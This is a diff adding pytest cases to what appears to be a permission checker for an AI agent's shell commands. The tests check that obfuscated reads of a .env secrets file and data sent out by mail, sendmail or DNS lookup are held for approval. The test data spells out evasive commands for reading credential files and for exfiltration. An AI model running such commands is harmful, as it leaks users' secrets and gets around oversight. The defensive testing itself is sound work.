@@ -112,3 +112,17 @@ def test_a_denied_child_or_skill_is_denied_in_any_spelling(tool: str, name: str,
 
 def test_a_rule_that_allows_does_not_stand_for_the_names_of_a_plugin() -> None:
     assert weighed("Skill", "tools:deploy", allow=["Skill(tools:*)"]).decision == "ask"
+
+
+@pytest.mark.parametrize(
+    "command", ["cat ${x:=.env}", "cat ${x:-${y:-.env}}", "cat < ${x:-.env} `ls`", "cat $'.env'", "ed .env"]
+)
+def test_a_file_with_secrets_that_a_text_names_is_private_data_however_it_is_read(command: str) -> None:
+    verdict = weighed("Bash", command, mode="bypassPermissions", taint=frozenset(("untrusted", "outside")))
+    assert (verdict.decision, verdict.reason) == ("ask", "taint")
+
+
+@pytest.mark.parametrize("command", ["mail -s x ada@example.test < notes", "sendmail x", "getent hosts x.example.test"])
+def test_letters_and_lookups_are_a_way_out(command: str) -> None:
+    verdict = weighed("Bash", command, mode="bypassPermissions", taint=frozenset(("untrusted", "private")))
+    assert (verdict.decision, verdict.reason) == ("ask", "taint")
